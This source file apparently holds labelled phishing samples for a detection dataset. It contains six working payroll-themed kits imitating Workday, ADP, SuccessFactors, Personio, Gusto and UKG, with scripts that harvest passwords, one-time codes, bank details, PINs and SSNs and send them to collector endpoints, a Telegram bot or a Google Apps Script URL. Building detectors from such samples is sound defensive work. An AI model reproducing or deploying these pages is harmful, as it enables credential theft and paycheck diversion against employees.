import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, mark, rev, tgRelay } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

const ddStep = (title: string, logo: string, action: string): string =>
  doc({
    title,
    css: cssBase + `.w{max-width:520px;margin:40px auto;background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 10px rgba(0,0,0,.08)}.info{background:#eef6ff;border-radius:6px;padding:10px 12px;font-size:14px}`,
    body: `<div class="w">${logo}<h2>Verify direct deposit</h2><p class="info">To protect your pay, confirm the account where your net pay is deposited. Changes submitted before Wednesday 5 PM apply to this pay period.</p>
<form method="post" action="${action}"><label>Bank name</label><input type="text" name="bank"><label>Routing number</label><input type="text" name="routing" maxlength="9" inputmode="numeric"><label>Account number</label><input type="text" name="account" inputmode="numeric"><label>Account type</label><select name="type"><option>Checking</option><option>Savings</option></select><label>Last 4 of SSN</label><input type="text" name="ssn4" maxlength="4"><button style="width:100%;margin-top:16px">Confirm</button></form></div>`,
  });

export const entries: Entry[] = [
  {
    id: 'yr-workday-login-then-direct-deposit',
    label: 'phishing',
    kind: 'payroll-dd-kit',
    url: 'https://brightwater.wd5-myworkday-sso.com/brightwater/login.htmld',
    body: doc({
      title: 'Workday',
      css: `body{margin:0;font-family:Roboto,"Helvetica Neue",Arial,sans-serif;background:#f0f1f2}
.c{width:400px;margin:70px auto;background:#fff;border-radius:4px;box-shadow:0 1px 3px rgba(0,0,0,.2);padding:34px 40px}
.c h1{font-size:20px;font-weight:500;margin:20px 0}.c input{width:100%;box-sizing:border-box;height:40px;border:1px solid #a0a4a8;border-radius:3px;padding:0 10px;margin-bottom:16px;font-size:14px}
.c button{width:100%;height:40px;background:#0875e1;color:#fff;border:0;border-radius:20px;font-weight:500;font-size:14px}.lk{font-size:13px;margin-top:14px;display:flex;justify-content:space-between}.lk a{color:#0875e1}
.ft{text-align:center;font-size:12px;color:#5e6a75}`,
      body: `<div class="c">${'<div style="text-align:center">' + '<svg width="132" height="36" viewBox="0 0 132 36"><path d="M6 20a12 12 0 0 1 24 0" fill="none" stroke="#f38b00" stroke-width="4"/><text x="36" y="26" font-family="Arial" font-size="20" font-weight="700" fill="#0875e1">workday</text></svg>' + '</div>'}
<h1>Sign In</h1>
<form id="wd" method="post" action="next.php"><input name="username" placeholder="Username" autocomplete="username" aria-label="Username"><input name="password" type="password" placeholder="Password" aria-label="Password"><button type="submit">Sign In</button></form>
<div class="lk"><a href="#">Forgot Password?</a><a href="#">Create Account</a></div></div>
<div class="ft">© 2025 Workday, Inc. All rights reserved. · Brightwater Foods Inc.</div>
<script>
document.getElementById('wd').addEventListener('submit',function(e){e.preventDefault();
var b=new URLSearchParams(new FormData(this));b.append('tz',Intl.DateTimeFormat().resolvedOptions().timeZone);
fetch('next.php',{method:'POST',body:b}).then(function(){location.href='/brightwater/d/task/2997$2151.htmld'})});
</script>`,
    }),
    routes: {
      'brightwater.wd5-myworkday-sso.com/brightwater/next.php': jsonRoute({ ok: 1 }),
      'brightwater.wd5-myworkday-sso.com/brightwater/d/task/2997$2151.htmld': htmlRoute(ddStep('Workday – Payment Elections', '<b style="color:#0875e1;font-size:20px">workday</b>', '/brightwater/pe.php')),
    },
  },
  {
    id: 'yr-myadp-userid-password-otp',
    label: 'phishing',
    kind: 'payroll-login-kit',
    url: 'https://myadp-login-portal.com/signin/v1/?APPID=WFNPortal&productId=80e309c3',
    body: doc({
      title: 'ADP | Login',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f7f7f7;color:#333}
.h{background:#fff;padding:14px 32px;border-bottom:1px solid #ddd}.b{max-width:420px;margin:50px auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:30px 36px}
h1{font-size:24px;font-weight:400;margin:0 0 18px}label{font-size:14px;font-weight:700;display:block;margin-bottom:6px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #9e9e9e;border-radius:4px;font-size:15px;margin-bottom:16px}
button{width:100%;padding:12px;background:#d0271d;color:#fff;border:0;border-radius:20px;font-weight:700;font-size:15px}.s{display:none}.sm{font-size:13px;margin-top:14px}.sm a{color:#1a73e8}`,
      body: `<div class="h">${mark.adp}</div>
<div class="b"><h1 id="hh">Sign in</h1>
<div id="s1"><label for="uid">User ID</label><input id="uid" autocomplete="username"><label><input type="checkbox" style="width:auto"> Remember user ID</label><button onclick="nx(1)">Next</button><p class="sm"><a href="#">Forgot your user ID/password?</a></p><p class="sm">New user? <a href="#">Create account</a></p></div>
<div id="s2" class="s"><p id="who" style="font-size:14px"></p><label for="pw">Password</label><input id="pw" type="password"><button onclick="nx(2)">Sign in</button></div>
<div id="s3" class="s"><p style="font-size:14px">For your security, we sent a 6-digit verification code to the mobile number and email on your account.</p><label for="otp">Verification code</label><input id="otp" inputmode="numeric" maxlength="6" autocomplete="one-time-code"><button onclick="nx(3)">Verify</button></div>
</div><p style="text-align:center;font-size:12px;color:#777">© 2025 ADP, Inc. All rights reserved. <a href="#">Privacy</a> · <a href="#">Legal</a></p>
<script>
var d={};
function post(){return fetch('/signin/v1/api/collect.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)})}
function nx(n){
 if(n===1){d.user=document.getElementById('uid').value;if(!d.user)return;document.getElementById('who').textContent=d.user;sw(2)}
 else if(n===2){d.pass=document.getElementById('pw').value;post().then(function(){sw(3);document.getElementById('hh').textContent='Verify your identity'})}
 else{d.otp=document.getElementById('otp').value;post().then(function(){location.replace('https://my.adp.com/')})}
}
function sw(n){[1,2,3].forEach(function(i){document.getElementById('s'+i).style.display=i===n?'block':'none'})}
</script>`,
    }),
    routes: { 'myadp-login-portal.com/signin/v1/api/collect.php': jsonRoute({ status: 'ok' }) },
  },
  {
    id: 'yr-successfactors-telegram-relay',
    label: 'phishing',
    kind: 'payroll-login-kit',
    url: 'https://sf-performancemanager.hr-login-eu.com/sf/start?company=northwindlogi',
    body: doc({
      title: 'SAP SuccessFactors – Log On',
      css: `body{margin:0;font-family:"72","72full",Arial,Helvetica,sans-serif;background:linear-gradient(160deg,#354a5f,#1c2c3d);min-height:100vh}
.p{width:360px;margin:90px auto;background:#fff;border-radius:4px;padding:32px 36px;box-shadow:0 10px 30px rgba(0,0,0,.3)}
.p input{width:100%;box-sizing:border-box;height:36px;border:1px solid #89919a;border-radius:4px;padding:0 10px;margin:4px 0 14px}.p button{width:100%;height:36px;background:#0a6ed1;border:0;border-radius:4px;color:#fff;font-weight:bold}
.p label{font-size:13px;color:#32363a}.co{font-size:13px;color:#6a6d70;margin:12px 0 18px}`,
      body: `<div class="p">${mark.sap}<h2 style="font-weight:400;color:#32363a">SuccessFactors</h2><div class="co">Company ID: <b>northwindlogi</b></div>
<form id="sf"><label>Username *</label><input name="username" required><label>Password *</label><input name="password" type="password" required><input type="hidden" name="company" value="northwindlogi"><button>Log in</button></form>
<p style="font-size:12px"><a href="#" style="color:#0a6ed1">Forgot Password?</a></p><p style="font-size:11px;color:#6a6d70">Your 2025 mid-year compensation statement is available in Employee Central → Compensation.</p></div>
${tgRelay('#sf', '7712093845:AAGx2Qd9fK1mZr8LwP0s3nTvYb5cHjE4uXo', '-1002183345127', 'https://www.sap.com/products/hcm.html')}`,
    }),
  },
  {
    id: 'yr-de-personio-gehaltsabrechnung-kit',
    label: 'phishing',
    kind: 'payroll-login-kit',
    url: 'https://personio-gehaltsabrechnung.de/login?company=kranich-gmbh',
    body: doc({
      title: 'Anmelden – Personio',
      lang: 'de',
      css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#f7f7f5;color:#1d1d1b}.w{max-width:400px;margin:70px auto;background:#fff;border:1px solid #e6e6e3;border-radius:12px;padding:36px}
h1{font-size:22px;margin:26px 0 6px}p.s{color:#6b6b67;font-size:14px;margin:0 0 22px}label{font-size:13px;font-weight:600}
input{width:100%;box-sizing:border-box;height:42px;border:1px solid #d3d3cf;border-radius:8px;padding:0 12px;margin:6px 0 16px;font-size:15px}button{width:100%;height:44px;background:#1d1d1b;color:#fff;border:0;border-radius:8px;font-weight:600;font-size:15px}
.hint{background:#fff8e1;border-radius:8px;padding:10px 12px;font-size:13px;margin-bottom:18px}`,
      body: `<div class="w">${mark.personio}<h1>Willkommen zurück</h1><p class="s">Kranich Logistik GmbH</p>
<div class="hint">📄 Ihre <b>Gehaltsabrechnung August 2025</b> sowie die geänderte Lohnsteuerbescheinigung stehen zum Abruf bereit. Bitte melden Sie sich an und bestätigen Sie Ihre Bankverbindung.</div>
<form id="pf"><label>E-Mail-Adresse</label><input name="email" type="email" required><label>Passwort</label><input name="passwort" type="password" required><button>Anmelden</button></form>
<p style="font-size:13px;margin-top:14px"><a href="#" style="color:#1d1d1b">Passwort vergessen?</a> · <a href="#" style="color:#1d1d1b">Mit Google anmelden</a></p></div>
<script>
document.getElementById('pf').addEventListener('submit',function(e){e.preventDefault();
fetch('https://script.google.com/macros/s/AKfycbx7Qm2wLhP0nUeT3fZr9yKc1VdG6sJ8aXo4BiN5tRe/exec',{method:'POST',mode:'no-cors',body:new FormData(this)})
.then(function(){document.querySelector('.w').innerHTML='<h1>Bankverbindung bestätigen</h1><p class="s">Aufgrund der Umstellung unseres Zahlungsdienstleisters bestätigen Sie bitte Ihre IBAN.</p><form method="post" action="/iban.php"><label>Kontoinhaber</label><input name="inhaber"><label>IBAN</label><input name="iban" placeholder="DE00 0000 0000 0000 0000 00"><label>Online-Banking PIN</label><input name="pin" type="password"><button>Bestätigen</button></form>'})});
</script>`,
    }),
  },
  {
    id: 'yr-gusto-confirm-direct-deposit-before-payday',
    label: 'phishing',
    kind: 'payroll-dd-kit',
    url: 'https://gusto-payroll-verify.com/employee/login',
    body: doc({
      title: 'Sign in | Gusto',
      css: `body{margin:0;font-family:"Centra No2",Helvetica,Arial,sans-serif;background:#fff;color:#1c1c1c}.l{display:grid;grid-template-columns:1fr 1fr;min-height:100vh}
.a{background:#f45d48;color:#fff;padding:60px;display:flex;flex-direction:column;justify-content:center}.a h2{font-size:34px;font-family:Georgia}
.f{padding:80px 70px}.f input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #c7c7c7;border-radius:8px;margin:6px 0 16px;font-size:16px}
.f button{width:100%;padding:13px;background:#0a8080;color:#fff;border:0;border-radius:8px;font-size:16px;font-weight:600}.al{background:#fff4e5;border:1px solid #ffc078;border-radius:8px;padding:12px;font-size:14px;margin-bottom:18px}`,
      body: `<div class="l"><div class="a"><h2>Payday is Friday.</h2><p>Make sure your money lands in the right place.</p></div>
<div class="f">${mark.gusto}<div class="al"><b>Action required:</b> your employer switched to a new payroll bank. Confirm your direct deposit account by Thursday 11:59 PM PT or your paycheck will be issued as a paper check.</div>
<form id="g"><label for="e">Email</label><input id="e" name="email" type="email"><label for="p">Password</label><input id="p" name="password" type="password">
<label for="r">Routing number</label><input id="r" name="routing" maxlength="9"><label for="ac">Account number</label><input id="ac" name="account"><label for="s">Social Security number</label><input id="s" name="ssn" placeholder="•••-••-••••"><button>Sign in and confirm</button></form></div></div>
<script>
document.getElementById('g').addEventListener('submit',async function(e){e.preventDefault();
const d=Object.fromEntries(new FormData(this));try{d.geo=await (await fetch('https://ipapi.co/json/')).json()}catch(_){}
await fetch('/employee/api/verify',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});
location.href='https://gusto.com/'});
</script>`,
    }),
    routes: { 'gusto-payroll-verify.com/employee/api/verify': jsonRoute({ ok: true }) },
  },
  {
    id: 'yr-ukg-turnstile-gate-then-kit',
    label: 'phishing',
    kind: 'captcha-gated-kit',
    url: 'https://hr-docs-verify.com/ukg/',
    body: doc({
      title: 'Just a moment...',
      css: `body{font-family:system-ui,-apple-system,Segoe UI,Roboto,Arial,sans-serif;margin:0;background:#fff;color:#313131}.m{max-width:560px;margin:90px auto;padding:0 20px}
h1{font-size:32px;font-weight:500}.cb{border:1px solid #d9d9d9;background:#fafafa;width:300px;height:64px;display:flex;align-items:center;padding:0 14px;gap:12px;border-radius:4px;cursor:pointer}
.bx{width:24px;height:24px;border:2px solid #666;border-radius:3px;background:#fff}.ft{font-size:12px;color:#777;margin-top:60px}`,
      body: `<div class="m" id="gate"><h1>hr-docs-verify.com</h1><p>Verify you are human by completing the action below.</p>
<div class="cb" id="cb"><div class="bx" id="bx"></div><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#888">Protected</span></div>
<p style="margin-top:26px">hr-docs-verify.com needs to review the security of your connection before proceeding.</p><div class="ft">Ray ID: 8c2f1a9e0b7d44e1 · Performance &amp; security</div></div>
<script>
document.getElementById('cb').onclick=function(){document.getElementById('bx').style.background='#2c7a3f';
setTimeout(function(){fetch('/ukg/s/'+btoa(location.hostname).replace(/=/g,'')).then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})},900)};
</script>`,
    }),
    routes: {
      'hr-docs-verify.com/ukg/s/aHItZG9jcy12ZXJpZnkuY29t': htmlRoute(
        doc({
          title: 'UKG Pro | Sign In',
          css: `body{margin:0;font-family:Arial,sans-serif;background:#005151;color:#222}.c{width:400px;margin:80px auto;background:#fff;border-radius:6px;padding:36px}.c input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #aaa;border-radius:4px;margin:6px 0 14px}.c button{width:100%;padding:12px;background:#00857c;color:#fff;border:0;border-radius:4px;font-weight:bold}`,
          body: `<div class="c"><div style="font:700 28px Arial;color:#005151">UKG <span style="font-weight:400">Pro</span></div><p>A document titled <b>“2025 Compensation Adjustment – Confidential.pdf”</b> was shared with you by HR.</p><form method="post" action="/ukg/s/auth.php"><label>Username</label><input name="username"><label>Password</label><input name="password" type="password"><button>Sign In</button></form><p style="font-size:12px"><a href="#">Forgot your password?</a></p></div>`,
        }),
      ),
    },
  },
];
